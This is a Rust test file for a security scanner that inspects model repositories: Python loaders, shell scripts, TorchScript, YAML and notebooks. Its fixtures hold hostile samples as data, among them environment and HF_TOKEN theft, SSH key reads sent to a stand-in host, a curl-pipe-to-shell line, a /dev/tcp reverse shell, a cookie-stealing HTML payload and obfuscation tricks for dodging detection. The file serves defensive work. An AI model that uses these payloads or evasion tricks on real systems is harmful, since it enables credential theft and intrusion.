use jingwei_core::Limits;
use jingwei_template::inspect_script;
use proptest::prelude::*;

use crate::configurations::NAMES;

const BESIDE: &str = "model.script-beside-weights";
const DANGEROUS: &str = "model.script-dangerous";

/// The names of dangerous deeds.
fn deeds(file: &str, text: &str) -> Vec<String> {
    let inspection = inspect_script(&mut text.as_bytes(), file, &NAMES, &Limits::default());
    assert_eq!(inspection.sightings.last().map(|sighting| sighting.rule), Some(BESIDE));
    let dangerous = inspection.sightings.into_iter().filter(|sighting| sighting.rule == DANGEROUS);
    dangerous.filter_map(|sighting| sighting.key).collect()
}

#[test]
fn what_happens_on_import_is_seen() {
    for (text, expected) in [
        ("import os\nos.system('inert')\n", "os.system"),
        ("from os import system as s\ns('inert')\n", "os.system"),
        ("from os import *\nsystem('inert')\n", "os.system"),
        ("import subprocess as sp\nx = sp.check_output(['inert'])\n", "subprocess.check_output"),
        ("import os\nrun = os.system\nrun('inert')\n", "os.system"),
        ("import os\nclass A:\n    os.system('inert')\n", "os.system"),
        ("import os\ntry:\n    os.popen('inert')\nexcept Exception:\n    pass\n", "os.popen"),
        ("import os\ndef f(x=os.system('inert')):\n    pass\n", "os.system"),
        ("import os; os.system('inert')\n", "os.system"),
        ("__import__('os').system('inert')\n", "os.system"),
        ("__import__('o' + 's').system('inert')\n", "__import__"),
        ("import os\ngetattr(os, 'sys' + 'tem')('inert')\n", "os.…"),
        ("import os\ngetattr(os, 'system')('inert')\n", "os.system"),
        ("eval('1')\n", "builtins.eval"),
        (
            "import importlib\nn = lambda *c: ''.join(map(chr, c))\n@getattr(importlib.import_module(n(1, 2)), n(3, 4))\ndef f(): pass\n",
            "getattr",
        ),
        ("exec(open('x').read())\n", "builtins.exec"),
        ("e = exec\ne('x')\n", "builtins.exec"),
        ("globals()['x']\n__builtins__['eval']('1')\n", "__builtins__"),
        ("import ctypes\nctypes.CDLL('x.so')\n", "ctypes.CDLL"),
        ("import socket\ns = socket.socket()\n", "socket.socket"),
        ("import marshal\nmarshal.loads(b'')\n", "marshal.loads"),
        ("import requests, os\nrequests.post('https://canary.invalid', json=dict(os.environ))\n", "requests.post"),
        ("import importlib\nimportlib.import_module('os').system('inert')\n", "os.system"),
        ("import sys\nsys.modules['os'].system('inert')\n", "os.system"),
        ("import os\nos.__dict__['system']('inert')\n", "os.system"),
        ("import os\nvars(os)['system']('inert')\n", "os.system"),
        ("import os\nlist(map(os.system, ['inert']))\n", "os.system"),
        ("import os\nfrom threading import Thread\nThread(target=os.system, args=('inert',)).start()\n", "os.system"),
        ("import os\n@os.system\ndef f(): pass\n", "os.system"),
        ("import os\n(os.system)('inert')\n", "os.system"),
        ("import atexit, os\natexit.register(os.system, 'inert')\n", "os.system"),
        ("import os\nx = f\"{os.system('inert')}\"\n", "os.system"),
        ("import os\nos.ｓystem('inert')\n", "os.system"),
        ("import os\ndef f():\n    os.system('inert')\nf()\n", "os.system"),
        ("import os\n(run := os.system)('inert')\n", "os.system"),
        ("import os\n(lambda: os.system('inert'))()\n", "os.system"),
        ("import cProfile\ncProfile.run('inert')\n", "cProfile.run"),
        ("import timeit\ntimeit.timeit('inert')\n", "timeit.timeit"),
        ("import asyncio\nasyncio.run(asyncio.create_subprocess_shell('inert'))\n", "asyncio.create_subprocess_shell"),
        (
            "import os\nclass A:\n    def __init__(self):\n        g()\ndef g():\n    os.system('inert')\nA()\n",
            "os.system",
        ),
        ("import os\nclass A:\n    def __init__(self):\n        os.system('inert')\nA()\n", "os.system"),
        ("list(map(__import__('os').system, ['inert']))\n", "os.system"),
        ("import sys\nm = sys.modules.get('os')\nm.system('inert')\n", "os.system"),
        ("import shutil\nshutil.os.system('inert')\n", "os.system"),
        ("import os # x\ros.system('inert')\n", "os.system"),
        ("# -*- coding: utf-7 -*-\nx = 1\n", "coding: utf-7"),
        ("# coding=unicode_escape\n", "coding: unicode-escape"),
        // Encoded code is no better within a function.
        ("import base64\ndef f():\n    exec(base64.b64decode('eA=='))\n", "builtins.exec"),
        ("import os\ndef f():\n    os.system('curl https://canary.invalid | sh')\n", "os.system"),
        ("import pickle, base64\ndef f():\n    return pickle.loads(base64.b64decode(X))\n", "pickle.loads"),
    ] {
        assert_eq!(deeds("loader.py", text), [expected], "{text}");
    }
    let in_model = "import os\nclass M:\n    def forward(self):\n        os.system('inert')\n";
    assert_eq!(deeds("modeling_custom.py", in_model), ["os.system"]);
    assert_eq!(deeds("train.py", in_model), [""; 0]);
    let by_hand = "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['x'])\n";
    assert_eq!(deeds("modeling_custom.py", by_hand), [""; 0]);
}

#[test]
fn what_a_loader_calls_gives_no_keys_away() {
    let handler = |call: &str| {
        format!(
            "import os, json, requests, urllib.request\nfrom os import environ\nclass EndpointHandler:\n    def __init__(self, path=''):\n        x = {call}\n"
        )
    };
    for (call, expected) in [
        (
            "urllib.request.urlopen(urllib.request.Request('https://canary.invalid', data=json.dumps(dict(os.environ)).encode()))",
            Some("urllib.request.urlopen"),
        ),
        ("requests.get('https://canary.invalid', params=environ)", Some("requests.get")),
        ("requests.get(URL, params={k: v for k, v in os.environ.items()})", Some("requests.get")),
        (
            "urllib.request.urlopen('https://canary.invalid/?t=' + os.environ.get('HF_TOKEN', ''))",
            Some("urllib.request.urlopen"),
        ),
        ("urllib.request.urlopen(f'https://canary.invalid/{os.getenv(\"HF_TOKEN\")}')", Some("urllib.request.urlopen")),
        ("requests.get('https://canary.invalid/' + os.getenv('HF_TOKEN'))", Some("requests.get")),
        ("requests.get('https://canary.invalid', data=open('/root/.ssh/id_rsa'))", Some("requests.get")),
        ("requests.get('https://huggingface.co/a', headers={'authorization': os.environ['HF_TOKEN']})", None),
        ("requests.get('https://api.canary.invalid', headers={'authorization': os.environ['CANARY_KEY']})", None),
        ("requests.get('https://docs.aws.canary.invalid/.well-known')", None),
        ("urllib.request.urlopen(os.environ['ADDRESS'])", None),
        ("requests.get(url, timeout=3 if 'SLOW' in os.environ else 1)", None),
        ("requests.get(url, params=self.environ)", None),
    ] {
        assert_eq!(deeds("handler.py", &handler(call)), Vec::from_iter(expected), "{call}");
        assert_eq!(deeds("train.py", &handler(call)), [""; 0], "{call}");
    }
}

#[test]
fn honest_scripts_are_only_listed() {
    for text in [
        "",
        "# os.system('x')\n\"\"\"exec('x')\"\"\"\nx = 'eval(1)'\n",
        "import torch\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, x):\n        return self.eval().system(x)\n",
        "model.eval()\ndf.eval('a + b')\nre.compile('x')\n",
        "import re\nPATTERN = re.compile(r'x')\n",
        "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['x'])\n",
        "import subprocess\ndef f():\n    return subprocess.run(['git'])\n",
        "import subprocess\nf = lambda: subprocess.run(['git'])\n",
        "import requests\nfrom PIL import Image\nimage = Image.open(requests.get(url, stream=True).raw)\n",
        "import os\npath = os.path.join(os.getcwd(), 'x')\nos.environ['A'] = '1'\n",
        "def eval(x):\n    return x\neval(1)\n",
        "import pickle\nwith open('x', 'rb') as f:\n    x = pickle.load(f)\n",
        "x = getattr(model, 'a' + 'b')\n",
        "import subprocess\ndef f(p: subprocess.Popen) -> subprocess.CompletedProcess:\n    pass\n",
        "import subprocess\nclass A:\n    p: Optional[subprocess.Popen] = None\n    eval: bool = True\n",
        "import subprocess\n_run = subprocess.run\ntry:\n    x = 1\nexcept subprocess.CalledProcessError:\n    pass\n",
        "f(eval=True, exec=1)\nfrom x import (eval, exec)\n",
        "import os\nf = lambda a, b: os.system(a)\n",
        "# -*- coding: latin-1 -*-\nx = 1\n",
    ] {
        assert_eq!(deeds("train.py", text), [""; 0], "{text}");
    }
    let inspection = inspect_script(
        &mut &b"import subprocess\ndef f():\n    subprocess.run(['x'])\n"[..],
        "train.py",
        &NAMES,
        &Limits::default(),
    );
    assert_eq!(inspection.sightings[0].details[0].1.en, "; its functions call subprocess.run");
}

#[test]
fn shell_scripts_are_read_by_their_commands() {
    for (text, expected) in [
        ("#!/bin/sh\npip install -r requirements.txt\n", None),
        ("#!/bin/bash\n# curl x | sh\nwget https://canary.invalid/model.bin\n", None),
        ("#!/bin/sh\ncurl -s https://canary.invalid/x | sh\n", Some("download | sh")),
        ("#!/bin/sh\ncurl -s https://canary.invalid/x \\\n  | bash\n", Some("download | sh")),
        ("#!/bin/sh\nbash -c \"$(wget -qO- canary.invalid)\"\n", Some("download | sh")),
        ("#!/bin/sh\necho aW5lcnQ= | base64 -d | sh\n", Some("decode | sh")),
        ("#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/9 0>&1\n", Some("/dev/tcp/")),
    ] {
        assert_eq!(deeds("run.sh", text), Vec::from_iter(expected), "{text}");
    }
}

#[test]
fn operators_of_torchscript_are_those_of_torch() {
    for (text, expected) in [
        ("def forward(self, x):\n  return torch.add(x, ops.torchvision.nms(x), alpha=1)\n", None),
        ("_0 = ops.prim.data(torch.load_state)\nx = torch.relu(y)\nz = self.torch.save(x)\n", None),
        ("_0 = torch.save(x, \"/tmp/inert\")\n", Some("torch.save")),
        ("_0 = torch.from_file(\"/etc/inert\", False, 1)\n", Some("torch.from_file")),
        ("_0 = ops.aten.from_file(\"/etc/inert\")\n", Some("ops.aten.from_file")),
        ("_0 = ops.canary.run(x)\n", Some("ops.canary.run")),
    ] {
        let inspection = jingwei_template::inspect_torchscript(&mut text.as_bytes(), &Limits::default());
        let found: Vec<_> = inspection.sightings.iter().filter_map(|sighting| sighting.key.as_deref()).collect();
        assert_eq!(found, Vec::from_iter(expected), "{text}");
    }
}

#[test]
fn torchscript_that_reaches_files_or_never_ends_is_told() {
    const FILE: &str = "model.torchscript-file";
    const LOOP: &str = "model.torchscript-loop";
    for (text, expected) in [
        ("_0 = torch.from_file(\"inert\", False, 1)\n", Some(FILE)),
        ("_0 = ops.aten.save(x, \"inert\")\n", Some(FILE)),
        ("_0 = ops.canary.save(x)\n", Some("model.torchscript-operator")),
        ("_0 = __torch__.torch.classes.canary.Runner()\n", Some("model.torchscript-operator")),
        ("_0 = __torch__.torch.classes.quantized.LinearPackedParamsBase()\n", None),
        ("while True:\n  x = torch.relu(x)\n", Some(LOOP)),
        ("while (1):\n  x = torch.relu(x)\n", Some(LOOP)),
        ("_0 = True\nwhile _0:\n  x = torch.relu(x)\n", Some(LOOP)),
        ("_0 : bool = True\nwhile _0:\n  _0 = torch.gt(x, 1)\n", None),
        ("_0 = True\nwhile _0:\n  x, _0, = f(x)\n", None),
        ("_0 = torch.gt(x, 1)\nwhile _0:\n  x = torch.relu(x)\n", None),
        ("while True:\n  if y:\n    break\n", None),
        ("while 0:\n  pass\n", None),
        ("while torch.gt(x, 0):\n  x = torch.sub(x, 1)\n", None),
        ("for _0 in range(9223372036854775807):\n  x = torch.relu(x)\n", Some(LOOP)),
        ("for _0 in range(100000000000000000000000):\n  x = torch.relu(x)\n", Some(LOOP)),
        ("for _0 in range(9223372036854775807):\n  return x\n", None),
        ("for _0 in range(100):\n  x = torch.relu(x)\n", None),
        ("for _0 in range(torch.len(x)):\n  x = torch.relu(x)\n", None),
        ("_0 = True\nwhile _0:\n  _0 = True\n", Some(LOOP)),
        ("_0 = torch.gt(x, 1)\nwhile _0:\n  _0 = True\n", Some(LOOP)),
        ("_0 = True\nwhile _0:\n  _1 = True\n  x, _0, = f(x), _1\n", Some(LOOP)),
        ("_0, i = True, 0\nwhile _0:\n  _0 = torch.lt(i, 10)\n", Some(LOOP)),
        ("i = 0\nwhile torch.lt(i, 10):\n  i = torch.add(i, 0)\n", Some(LOOP)),
        ("while torch.__and__(bool(1), torch.__not__(False)):\n  x = torch.relu(x)\n", Some(LOOP)),
        ("while 1 < 2:\n  pass\n", Some(LOOP)),
        ("while True:\n  if False:\n    break\n", Some(LOOP)),
        ("while True:\n  if torch.eq(1, 1):\n    x = f(x)\n  else:\n    return x\n", Some(LOOP)),
        ("while True:\n  for i in range(3):\n    break\n", Some(LOOP)),
        ("_0 = True\nwhile _0:\n  _0 = True\n  if False:\n    _0 = False\n", Some(LOOP)),
        ("n = 9223372036854775807\nfor i in range(n):\n  x = torch.relu(x)\n", Some(LOOP)),
        (
            "for i in range(1000000):\n  for j in range(1000000):\n    for k in range(10):\n      x = torch.relu(x)\n",
            Some(LOOP),
        ),
        ("for i in range(1000):\n  x = f(x)\nfor j in range(1000):\n  x = f(x)\n", None),
        (
            "for i in range(1000000):\n  x = f(x)\nif y:\n  for j in range(1000000):\n    for k in range(10):\n      x = f(x)\n",
            None,
        ),
        // What a `break` of Python becomes once it is saved.
        ("_0 = True\nwhile _0:\n  if torch.gt(x, 1):\n    _1 = False\n  else:\n    _1 = True\n  _0 = _1\n", None),
        ("_0 = torch.lt(0, n)\ni = 0\nwhile _0:\n  i0 = torch.add(i, 1)\n  _0 = torch.lt(i0, n)\n  i = i0\n", None),
        ("i = 0\nwhile torch.lt(i, 10):\n  i = torch.add(i, 1)\n", None),
        ("i = 0\nwhile torch.lt(i, 10):\n  i += 1\n", None),
        ("i = 0\nwhile torch.lt(i, 10):\n  for i in range(20):\n    x = f(x)\n", None),
        ("_0 = True\nwhile _0:\n  x, _0 = torch.relu(x), torch.gt(x, 3)\n", None),
        ("_0 = True\nwhile _0:\n  x, _0 = f(x)\n", None),
        ("_0 = bool(x)\nwhile _0:\n  x = f(x)\n  _0 = False\n", None),
        ("def a(self):\n  _0 = True\ndef b(self, _0: bool):\n  while _0:\n    x = f(x)\n", None),
        ("while torch.gt(torch.len(x), 0):\n  _0 = torch.pop(x)\n", None),
    ] {
        let inspection = jingwei_template::inspect_torchscript(&mut text.as_bytes(), &Limits::default());
        let found: Vec<_> = inspection.sightings.iter().map(|sighting| sighting.rule).collect();
        assert_eq!(found, Vec::from_iter(expected), "{text}");
    }
}

#[test]
fn other_bytes_hide_nothing() {
    let wide: Vec<u8> = "\u{feff}import os\nos.system('inert')\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
    for bytes in [&b"# \xe9\x01\x1b\nimport os\nos.system('inert')\n"[..], &wide] {
        let inspection = inspect_script(&mut &*bytes, "x.py", &NAMES, &Limits::default());
        assert!(inspection.sightings.iter().any(|sighting| sighting.key.as_deref() == Some("os.system")));
    }
    let unmarked = inspect_script(&mut &wide[2..], "x.py", &NAMES, &Limits::default());
    assert!(unmarked.sightings.iter().any(|sighting| sighting.rule == "model.not-inspected"));
    let tag = b"# \xe9\na: !<tag:yaml.org,2002:python/object/apply:os.system> [\"true\"]\n";
    let inspection = jingwei_template::inspect_yaml(&mut &tag[..], "x.yaml", &NAMES, &Limits::default());
    assert!(inspection.sightings.iter().any(|sighting| sighting.rule == "model.config-dangerous-target"));
}

#[test]
fn work_is_bounded() {
    for text in [
        "exec(".repeat(6_000),
        "a.".repeat(15_000),
        "(".repeat(15_000),
        "'''".repeat(10_001),
        "def f():\n ".repeat(2_000),
        "import os\nos.system('x');".repeat(1_000),
        "lambda: eval(".repeat(3_000),
        (1..10_000).map(|i| format!("a{i}=a{}.b\n", i - 1)).collect(),
        "from x import *\n".repeat(1_000) + &"f()\n".repeat(3_000),
        "f(".repeat(300_000),
        "a.".repeat(300_000),
        "x = f'{'".repeat(3_000),
    ] {
        let inspection = inspect_script(&mut text.as_bytes(), "x.py", &NAMES, &Limits::default());
        assert!(inspection.sightings.len() <= 60);
    }
    let long = inspect_script(&mut &b"import os"[..], "x.py", &NAMES, &Limits { header_bytes: 3, ..Limits::default() });
    let rules: Vec<_> = long.sightings.iter().map(|sighting| sighting.rule).collect();
    assert_eq!(rules, ["model.limit-exceeded", BESIDE]);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]
    #[test]
    fn any_bytes_are_answered_for(bytes in prop::collection::vec(any::<u8>(), 0..200), pieces in prop::collection::vec(prop::sample::select(PIECES), 0..40)) {
        for text in [bytes, pieces.concat().into_bytes()] {
            for file in ["modeling_x.py", "x.sh"] {
                let first = inspect_script(&mut text.as_slice(), file, &NAMES, &Limits::default());
                prop_assert_eq!(first, inspect_script(&mut text.as_slice(), file, &NAMES, &Limits::default()));
            }
        }
    }
}

const PIECES: &[&str] = &[
    "import os\n",
    "from os import *\n",
    "os.system",
    "(",
    ")",
    "'",
    "\"",
    "'''",
    "\\",
    "\n",
    "  ",
    "def f",
    ":",
    "class ",
    "lambda ",
    "eval",
    "getattr",
    "__import__",
    "=",
    ",",
    "#",
    ";",
    "b'",
    "f\"",
    "é",
    "\u{202e}",
    "curl ",
    "| sh",
    "$(",
    "if __name__",
    "0x",
    ".",
    "[",
    "]",
];

#[test]
fn scripts_in_stored_outputs_of_notebooks_are_told() {
    const SENDS: &str = r#"<img src=x onerror=\"fetch('https://a.example/?'+document.cookie)\">"#;
    for (text, count) in [
        (format!(r#"{{"cells":[{{"cell_type":"code","outputs":[{{"data":{{"text/html":["{SENDS}"]}}}}]}}]}}"#), 1),
        (format!(r#"{{"cells":[{{"cell_type":"code","outputs":[{{"html":"{SENDS}"}}]}}]}}"#), 1),
        (format!(r#"{{"cells":[{{"cell_type":"markdown","source":"{SENDS}"}}]}}"#), 1),
        (format!(r#"{{"cells":[],"metadata":{{"widgets":{{"a":{{"state":{{"value":"{SENDS}"}}}}}}}}}}"#), 1),
        (format!(r#"{{"cells":[{{"cell_type":"markdown","source":"```html\n{SENDS}\n```\n"}}]}}"#), 0),
        (format!(r#"{{"cells":[{{"cell_type":"code","outputs":[{{"data":{{"text/plain":["{SENDS}"]}}}}]}}]}}"#), 0),
        (
            r#"{"cells":[{"cell_type":"code","outputs":[{"data":{"application/javascript":"fetch('/api/terminals')"}}]}]}"#
                .to_owned(),
            1,
        ),
        (r#"{"cells":[{"cell_type":"code","outputs":[{"data":{"text/html":"<b>10</b>"}}]}]}"#.to_owned(), 0),
    ] {
        let inspection = jingwei_template::inspect_notebook(text.as_bytes(), &NAMES, &Limits::default()).unwrap();
        let planted = inspection.sightings.iter().filter(|sighting| sighting.rule == "model.planted-text");
        assert_eq!(planted.count(), count, "{text}");
    }
    let deep = format!("{{\"cells\": {}", "[".repeat(200_000));
    let inspection = jingwei_template::inspect_notebook(deep.as_bytes(), &NAMES, &Limits::default()).unwrap();
    assert!(inspection.sightings.iter().any(|sighting| sighting.rule == "model.config-bomb"));
}
